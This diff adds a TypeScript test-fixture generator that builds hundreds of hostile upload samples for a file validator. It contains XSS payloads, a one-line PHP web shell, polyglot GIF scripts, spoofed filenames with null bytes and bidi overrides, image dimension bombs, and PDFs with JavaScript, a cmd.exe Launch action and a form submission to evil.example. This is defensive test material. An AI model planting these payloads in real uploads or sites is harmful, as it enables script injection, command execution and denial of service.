@@ -1,0 +1,307 @@
+import sharp from 'sharp';
+import type { Sample } from './good-samples.ts';
+import { makePackedPdf, makePdf } from './make-pdf.ts';
+import { drawn, pngChunk, withChunks, withComment, withSegment, zip } from './make-picture.ts';
+
+const page = '<html><script>alert(document.domain)</script></html>';
+const scripts = [
+  page,
+  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+  '<img src=x onerror=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<?php system($_GET[1]); ?>',
+  '<?= `id` ?>',
+  '<%@ page import="java.io.*" %>',
+  '<!DOCTYPE html><body onload=alert(1)>',
+  '<object data="data:text/html,<script>alert(1)</script>">',
+];
+const extensions = ['png', 'jpg', 'gif', 'pdf'] as const;
+
+/** At least 300 files that lie about what they are, hide something, or break what opens them (promise 27). */
+export async function hostileSamples(): Promise<readonly Sample[]> {
+  const good = {
+    png: await drawn().png().toBuffer(),
+    jpg: await drawn().jpeg().toBuffer(),
+    gif: await drawn().gif().toBuffer(),
+    pdf: makePdf({ text: 'A'.repeat(2000) }),
+  };
+  return [
+    ...otherKinds(),
+    ...wrongNames(good),
+    ...cutOff(good),
+    ...glued(good),
+    ...hidden(good),
+    ...(await floods(good)),
+    ...spoilt(good),
+    ...actingPapers(),
+  ];
+}
+
+type Good = Readonly<Record<(typeof extensions)[number], Buffer>>;
+
+/** Other files under names that are taken. */
+function otherKinds(): Sample[] {
+  const kinds: readonly (readonly [string, Buffer])[] = [
+    ...scripts.map((script, i) => [`page ${i}`, Buffer.from(script)] as const),
+    [
+      'xml',
+      Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
+    ],
+    ['zip', zip()],
+    ['exe', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(300, 1)])],
+    ['elf', Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(300, 1)])],
+    ['webp', Buffer.from('RIFF\x24\0\0\0WEBPVP8 ', 'latin1')],
+    ['bmp', Buffer.concat([Buffer.from('BM'), Buffer.alloc(60)])],
+    ['tiff', Buffer.from('II*\0\x08\0\0\0', 'latin1')],
+    ['script', Buffer.from('#!/bin/sh\nid')],
+    ['nothing', Buffer.alloc(0)],
+    ['zeros', Buffer.alloc(500)],
+    ['signature alone', Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')],
+    ['postscript', Buffer.from('%!PS-Adobe-3.0\n/x { (id) run } def')],
+  ];
+  return kinds.flatMap(([kind, bytes]) =>
+    extensions.map((extension) => ({ name: `${kind}.${extension}`, bytes })),
+  );
+}
+
+function wrongNames(good: Good): Sample[] {
+  const names = [
+    ...['html', 'svg', 'php', 'exe', 'js', 'xhtml', 'txt', 'webp', 'pdf', ''].map((end) => `scan.${end}`),
+    'scan',
+    'scan.png.html',
+    'scan.html.png',
+    'scan.php.png',
+    'scan.phtml.png',
+    'scan.svg.png',
+    'scan.exe.png',
+    'scan.asp;.png',
+    'scan.png\0.html',
+    'scan.html\0.png',
+    'scan.php%00.png',
+    'sc\u0000an.png',
+    'scan\u202egnp.html',
+    'scan\u202Elmth.png',
+    '\u2066scan\u2069.png',
+    'scan\u200f.png',
+    'scan\u200e.png',
+    'a\u2028b.png',
+    'a\u0007b.png',
+    '\ufeffscan.png',
+    'scan.jsp .png',
+    'scan.jpg',
+    'scan.gif',
+  ];
+  return names.map((name) => ({ name, bytes: good.png }));
+}
+
+/** Each kind cut off at many places. */
+function cutOff(good: Good): Sample[] {
+  return extensions.flatMap((extension) => {
+    const whole = good[extension];
+    return Array.from({ length: 16 }, (_, i) => {
+      const end = Math.max(4, Math.floor((whole.length - 9) * ((i + 1) / 16)));
+      return { name: `cut ${i}.${extension}`, bytes: whole.subarray(0, end) };
+    });
+  });
+}
+
+/** Two files in one. */
+function glued(good: Good): Sample[] {
+  return extensions.flatMap((extension) => {
+    const whole = good[extension];
+    const behind = [
+      ...scripts.map((script) => Buffer.from(script)),
+      zip(whole.length),
+      Buffer.from('Rar!\x1a\x07\0', 'latin1'),
+      Buffer.from('MZ program'),
+      makePdf({ text: 'behind' }),
+    ];
+    return [
+      ...behind.map((more, i) => ({ name: `behind ${i}.${extension}`, bytes: Buffer.concat([whole, more]) })),
+      ...scripts.slice(0, 3).map((script, i) => ({
+        name: `before ${i}.${extension}`,
+        bytes: Buffer.concat([Buffer.from(script), whole]),
+      })),
+      { name: `archive before.${extension}`, bytes: Buffer.concat([zip(), whole]) },
+    ];
+  });
+}
+
+/** Something that acts, in the places for words. */
+function hidden({ png, jpg, gif }: Good): Sample[] {
+  return [
+    ...scripts.flatMap((script, i) => [
+      { name: `words ${i}.png`, bytes: withChunks(png, pngChunk('tEXt', Buffer.from(`Comment\0${script}`))) },
+      { name: `own chunk ${i}.png`, bytes: withChunks(png, pngChunk('heLo', Buffer.from(script))) },
+      { name: `comment ${i}.jpg`, bytes: withSegment(jpg, 0xfe, Buffer.from(script)) },
+      {
+        name: `camera ${i}.jpg`,
+        bytes: withSegment(jpg, 0xe1, Buffer.from(`Exif\0\0MM\0*\0\0\0\x08${script}`)),
+      },
+      { name: `comment ${i}.gif`, bytes: withComment(gif, script) },
+      { name: `wide comment ${i}.jpg`, bytes: withSegment(jpg, 0xfe, Buffer.from(script, 'utf16le')) },
+    ]),
+    { name: 'archive in a comment.gif', bytes: withComment(gif, zip().toString('latin1')) },
+    { name: 'archive in a chunk.png', bytes: withChunks(png, pngChunk('heLo', zip())) },
+    { name: 'archive in a comment.jpg', bytes: withSegment(jpg, 0xfe, zip()) },
+    ...['=1;', '=1//', '/*', '//', '="', "='", '=`', '=\n1;'].map((size, i) => {
+      const script = Buffer.from(gif);
+      script.write(size, 6, 'latin1');
+      return { name: `script ${i}.gif`, bytes: withComment(script, '*/=1;alert(1)//') };
+    }),
+    { name: 'bare script.gif', bytes: Buffer.from('GIF89a=1;alert(1)//;') },
+  ];
+}
+
+/** Few bytes that want much memory. */
+async function floods({ png, jpg, gif }: Good): Promise<Sample[]> {
+  const sized = (width: number, height: number) => {
+    const header = Buffer.alloc(13);
+    header.writeUInt32BE(width, 0);
+    header.writeUInt32BE(height, 4);
+    header.set([8, 2, 0, 0, 0], 8);
+    return Buffer.concat([png.subarray(0, 8), pngChunk('IHDR', header), png.subarray(33)]);
+  };
+  const wideJpeg = Buffer.from(jpg);
+  const frame = wideJpeg.indexOf(Buffer.from([0xff, 0xc0]));
+  wideJpeg.writeUInt16BE(65_535, frame + 5);
+  wideJpeg.writeUInt16BE(65_535, frame + 7);
+  const wideGif = Buffer.from(gif);
+  wideGif.writeUInt16LE(65_535, 6);
+  wideGif.writeUInt16LE(65_535, 8);
+  const flat = sharp({ create: { width: 8000, height: 5001, channels: 3, background: '#abc' } });
+  return [
+    ...[
+      [40_000_001, 1],
+      [65_535, 65_535],
+      [2 ** 31 - 1, 1],
+      [2 ** 31 - 1, 2 ** 31 - 1],
+      [0, 80],
+      [120, 0],
+      [8001, 5000],
+      [121, 80],
+      [120, 8000],
+    ].map(([width = 0, height = 0]) => ({ name: `${width} x ${height}.png`, bytes: sized(width, height) })),
+    { name: 'flood.jpg', bytes: wideJpeg },
+    { name: 'flood.gif', bytes: wideGif },
+    { name: 'over 40 megapixels.jpg', bytes: await flat.clone().jpeg().toBuffer() },
+    { name: 'over 40 megapixels.png', bytes: await flat.png().toBuffer() },
+    { name: '501 pages.pdf', bytes: makePdf({ pages: 501 }) },
+  ];
+}
+
+/** Whole by their beginning and end, broken inside. */
+function spoilt(good: Good): Sample[] {
+  const broken = (bytes: Buffer, from: number, to: number) => {
+    const copy = Buffer.from(bytes);
+    copy.fill(0x5a, Math.floor(bytes.length * from), Math.floor(bytes.length * to));
+    return copy;
+  };
+  const without = (bytes: Buffer, from: number, to: number) =>
+    Buffer.concat([
+      bytes.subarray(0, Math.floor(bytes.length * from)),
+      bytes.subarray(Math.floor(bytes.length * to)),
+    ]);
+  const places = [0.2, 0.35, 0.5, 0.65, 0.8];
+  return [
+    ...places.map((at) => ({ name: `spoilt at ${at}.png`, bytes: broken(good.png, at, at + 0.1) })),
+    ...places.map((at) => ({ name: `missing at ${at}.png`, bytes: without(good.png, at, at + 0.1) })),
+    ...places.map((at) => ({ name: `missing at ${at}.gif`, bytes: without(good.gif, at, at + 0.1) })),
+    ...places
+      .slice(0, 3)
+      .map((at) => ({ name: `missing at ${at}.pdf`, bytes: without(good.pdf, at, at + 0.1) })),
+    {
+      name: 'no pixels.png',
+      bytes: Buffer.concat([good.png.subarray(0, 33), pngChunk('IEND', Buffer.alloc(0))]),
+    },
+    {
+      name: 'no scan.jpg',
+      bytes: Buffer.concat([
+        good.jpg.subarray(0, good.jpg.indexOf(Buffer.from([0xff, 0xda]))),
+        Buffer.from([0xff, 0xd9]),
+      ]),
+    },
+    {
+      name: 'head and end.jpg',
+      bytes: Buffer.concat([
+        good.jpg.subarray(0, Math.floor(good.jpg.length / 2)),
+        Buffer.from([0xff, 0xd9]),
+      ]),
+    },
+    {
+      name: 'no image.gif',
+      bytes: Buffer.concat([
+        good.gif.subarray(0, 13 + 3 * 2 ** (((good.gif[10] ?? 0) & 7) + 1)),
+        Buffer.from([0x3b]),
+      ]),
+    },
+    { name: 'no table.pdf', bytes: Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer<<>>\n%%EOF\n') },
+    {
+      name: 'no pages.pdf',
+      bytes: Buffer.from(
+        good.pdf.toString('latin1').replace('/Count 1 ', '/Count 0 ').replace('[20 0 R]', '[      ]'),
+        'latin1',
+      ),
+    },
+    {
+      name: 'table elsewhere.pdf',
+      bytes: Buffer.from(
+        good.pdf.toString('latin1').replace(/startxref\n\d+/, 'startxref\n99999999'),
+        'latin1',
+      ),
+    },
+    { name: 'spaces.pdf', bytes: Buffer.from(`%PDF-1.7\n${' '.repeat(900)}\n%%EOF\n`) },
+  ];
+}
+
+/** Papers that do something, or carry something. */
+function actingPapers(): Sample[] {
+  const actions = [
+    '<< /S /JavaScript /JS (app.alert(1)) >>',
+    '<< /S /Java#53cript /J#53 (app.alert(1)) >>',
+    '<< /S /Launch /F (cmd.exe) >>',
+    '<< /S /SubmitForm /F (https://evil.example) >>',
+    '<< /S /ImportData /F (x) >>',
+    '<< /S /GoToE /F (x) >>',
+    '<< /S /Rendition /JS (app.alert(1)) >>',
+  ];
+  return [
+    ...actions.flatMap((action, i) => [
+      { name: `opens ${i}.pdf`, bytes: makePdf({ catalog: '/OpenAction 9 0 R', objects: { 9: action } }) },
+      { name: `page ${i}.pdf`, bytes: makePdf({ page: '/AA << /O 9 0 R >>', objects: { 9: action } }) },
+      { name: `packed ${i}.pdf`, bytes: makePackedPdf('/OpenAction 4 0 R', [action]) },
+    ]),
+    {
+      name: 'attachment.pdf',
+      bytes: makePdf({
+        catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 9 0 R] >> >>',
+        objects: {
+          9: '<< /Type /Filespec /F (a.exe) /EF << /F 10 0 R >> >>',
+          10: '<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream',
+        },
+      }),
+    },
+    {
+      name: 'form.pdf',
+      bytes: makePdf({
+        catalog: '/AcroForm << /XFA 9 0 R >>',
+        objects: { 9: '<< /Length 0 >>\nstream\n\nendstream' },
+      }),
+    },
+    {
+      name: 'movie.pdf',
+      bytes: makePdf({
+        page: '/Annots [9 0 R]',
+        objects: { 9: '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>' },
+      }),
+    },
+    ...scripts.map((script, i) => ({
+      name: `page in a remark ${i}.pdf`,
+      bytes: Buffer.from(makePdf().toString('latin1').replace('\n%', `\n%${script}%`), 'latin1'),
+    })),
+    ...scripts.map((script, i) => ({
+      name: `page in an object ${i}.pdf`,
+      bytes: makePdf({ objects: { 9: `(${script.replaceAll(/[()]/g, '')}<script>)` } }),
+    })),
+  ];
+}
